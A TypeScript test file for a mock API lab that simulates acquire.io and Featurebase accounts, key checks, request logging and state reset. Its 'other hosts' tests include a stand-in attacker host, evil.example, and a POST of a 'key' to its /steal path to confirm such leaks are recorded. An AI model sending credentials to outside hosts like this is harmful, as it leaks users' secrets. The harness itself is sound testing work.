import { afterEach, describe, expect, it } from 'vitest';
import { CAST } from '../../lab/acquire/cast';
import { ACME_KEYS, DEMO_KEYS } from '../../lab/acquire/keys';
import { CAST as FEATUREBASE_CAST } from '../../lab/featurebase/cast';
import { keysOf } from '../../lab/featurebase/keys';
import type { FeaturebaseLab } from '../../lab/featurebase/lab-console';
import type { FeaturebaseWorld } from '../../lab/featurebase/world';
import { type Lab, type LabOptions, labConsoleOf, startLab } from '../../lab/lab';
import { callPlainThrough, callThrough } from './proxy-client';

const RECORDS = '/api/v1/crm/block-visitor';
const opened: Lab[] = [];

async function open(options?: LabOptions): Promise<Lab> {
  const lab = await startLab(options);
  opened.push(lab);
  return lab;
}

afterEach(async () => {
  await Promise.all(opened.splice(0).map((lab) => lab.close()));
});

const bearer = (key: string) => ({ headers: { authorization: `Bearer ${key}` } });

describe('accounts', () => {
  it('are demo and acme, each with an API and a console of its own', async () => {
    const lab = await open();
    expect([...(lab.consoles.get('acquire')?.worlds.keys() ?? [])]).toEqual(['demo', 'acme']);
    expect((await callThrough(lab.proxyPort, `https://demo.acquire.io${RECORDS}`, bearer(DEMO_KEYS.full))).status).toBe(
      200,
    );
    expect((await callThrough(lab.proxyPort, `https://acme.acquire.io${RECORDS}`, bearer(ACME_KEYS.full))).status).toBe(
      200,
    );
    expect(lab.requestsOf('demo')).toHaveLength(1);
    expect(lab.requestsOf('acme')).toHaveLength(1);
    const page = await callThrough(lab.proxyPort, 'https://demo.acquire.io/');
    expect(page.headers['content-type']).toContain('text/html');
    expect(page.status).toBe(200);
  });

  it('do not take each other’s keys', async () => {
    const lab = await open();
    const reply = await callThrough(lab.proxyPort, `https://acme.acquire.io${RECORDS}`, bearer(DEMO_KEYS.full));
    expect(reply.status).toBe(401);
    expect(lab.requestsOf('acme')[0]?.refusal).toContain('the key of another account: demo');
  });

  it('can be chosen', async () => {
    const lab = await open({ accounts: ['xoht0l'] });
    expect(lab.world('xoht0l').account).toBe('xoht0l');
    expect(() => lab.world('demo')).toThrow('no account demo');
  });

  it('answer 404 in HTML where there is none, and keep the request', async () => {
    const lab = await open();
    const reply = await callThrough(lab.proxyPort, `https://other.acquire.io${RECORDS}`, bearer(DEMO_KEYS.full));
    expect(reply.status).toBe(404);
    expect(reply.headers['content-type']).toContain('text/html');
    expect(lab.strays).toEqual([{ url: `https://other.acquire.io${RECORDS}`, method: 'GET', why: 'unknown account' }]);
  });

  it('send plain http to https, and keep the request', async () => {
    const lab = await open();
    const reply = await callPlainThrough(lab.proxyPort, `http://demo.acquire.io${RECORDS}`, bearer(DEMO_KEYS.full));
    expect(reply.status).toBe(301);
    expect(reply.headers.location).toBe(`https://demo.acquire.io${RECORDS}`);
    expect(lab.strays).toMatchObject([{ why: 'not https' }]);
    expect(lab.requestsOf('demo')).toEqual([]);
  });
});

describe('Featurebase', () => {
  const contacts = 'https://do.featurebase.app/v2/contacts';
  const featurebaseOf = (lab: Lab) => labConsoleOf<FeaturebaseWorld>(lab, 'featurebase') as FeaturebaseLab;
  const unclaimedOf = (lab: Lab) => featurebaseOf(lab).unclaimed;
  const worldOf = (lab: Lab, account: string) => {
    const world = featurebaseOf(lab).worlds.get(account);
    if (!world) throw new Error(`no account ${account}`);
    return world;
  };
  const call = (key: string) => ({
    headers: { authorization: `Bearer ${key}`, 'featurebase-version': '2026-01-01.nova' },
  });

  it('has one API for all organisations, and a console for each', async () => {
    const lab = await open();
    const [demo, acme] = [keysOf('demo'), keysOf('acme')];
    expect((await callThrough(lab.proxyPort, contacts, call(demo.full))).status).toBe(200);
    expect((await callThrough(lab.proxyPort, contacts, call(acme.full))).status).toBe(200);
    expect((await callThrough(lab.proxyPort, contacts, call(demo.unknown))).status).toBe(401);
    expect(worldOf(lab, 'demo').requests).toHaveLength(1);
    expect(worldOf(lab, 'acme').requests).toHaveLength(1);
    expect(unclaimedOf(lab).requests).toHaveLength(1);
    const page = await callThrough(lab.proxyPort, 'https://acme.featurebase.app/dashboard/inbox/conversation/12345');
    expect(page.headers['content-type']).toContain('text/html');
    expect(page.status).toBe(200);
  });

  it('has no API at a console, and no console at the API', async () => {
    const lab = await open();
    const own = 'https://demo.featurebase.app/v2/contacts';
    expect((await callThrough(lab.proxyPort, own, call(keysOf('demo').full))).status).toBe(404);
    expect((await callThrough(lab.proxyPort, 'https://do.featurebase.app/dashboard/inbox')).status).toBe(401);
    expect(worldOf(lab, 'demo').requests).toEqual([]);
  });

  it('keeps requests to an organisation that is none, or without encryption', async () => {
    const lab = await open();
    expect((await callThrough(lab.proxyPort, 'https://other.featurebase.app/')).status).toBe(404);
    expect((await callPlainThrough(lab.proxyPort, 'http://do.featurebase.app/v2/contacts')).status).toBe(301);
    expect(lab.strays.map(({ why }) => why)).toEqual(['unknown account', 'not https']);
  });

  it('is brought back to its first state', async () => {
    const lab = await open();
    const world = worldOf(lab, 'demo');
    await callThrough(lab.proxyPort, contacts, call(keysOf('demo').full));
    await callThrough(lab.proxyPort, contacts, call(keysOf('demo').unknown));
    world.blocked.clear();
    world.limits.key = 1;
    world.switches.repeat = 'refuse-409';
    world.now = () => 0;
    lab.reset();
    expect([...world.blocked.keys()]).toEqual([FEATUREBASE_CAST.blockedByDavid]);
    expect([world.limits.key, world.switches.repeat]).toEqual([2_000, 'same-answer']);
    expect(world.now()).toBeGreaterThan(0);
    expect([world.requests, unclaimedOf(lab).requests]).toEqual([[], []]);
  });
});

describe('the other hosts', () => {
  it('have an evil one that writes down who asks', async () => {
    const lab = await open();
    expect(lab.evil.requests).toEqual([]);
    await callThrough(lab.proxyPort, 'https://evil.example/steal', { method: 'POST', body: 'key' });
    expect(lab.evil.requests).toMatchObject([{ method: 'POST', path: '/steal', body: 'key' }]);
  });

  it('refuses the rest, the browser’s own traffic apart', async () => {
    const lab = await open();
    await expect(callThrough(lab.proxyPort, 'https://firefox.settings.services.mozilla.com/')).rejects.toThrow('502');
    await expect(callThrough(lab.proxyPort, 'https://example.com/')).rejects.toThrow('502');
    expect(lab.internet.silenced.map(({ host }) => host)).toEqual(['firefox.settings.services.mozilla.com']);
    expect(lab.internet.refused.map(({ host }) => host)).toEqual(['example.com']);
  });

  it('can be added to', async () => {
    const lab = await open({ sites: { 'portal.platform.softwareone.com': (_req, res) => void res.end('portal') } });
    expect((await callThrough(lab.proxyPort, 'https://portal.platform.softwareone.com/')).body).toBe('portal');
  });
});

describe('reset', () => {
  it('brings everything back to its first state', async () => {
    const lab = await open();
    const world = lab.world('demo');
    await callThrough(lab.proxyPort, `https://demo.acquire.io${RECORDS}?id=2`, {
      method: 'DELETE',
      ...bearer(DEMO_KEYS.full),
    });
    await callThrough(lab.proxyPort, 'https://evil.example/');
    await callThrough(lab.proxyPort, 'https://other.acquire.io/');
    world.now = () => 0;
    lab.internet.setOffline(true);
    lab.reset();
    expect(world.records.map(({ id, contactId }) => [id, contactId])).toEqual([
      [1, CAST.onceBlocked],
      [2, CAST.blockedByDavid],
      [3, undefined],
      [4, undefined],
    ]);
    expect(world.now()).toBeGreaterThan(0);
    expect([lab.requestsOf('demo'), lab.evil.requests, lab.strays]).toEqual([[], [], []]);
    expect((await callThrough(lab.proxyPort, 'https://demo.acquire.io/')).status).toBe(200);
  });
});
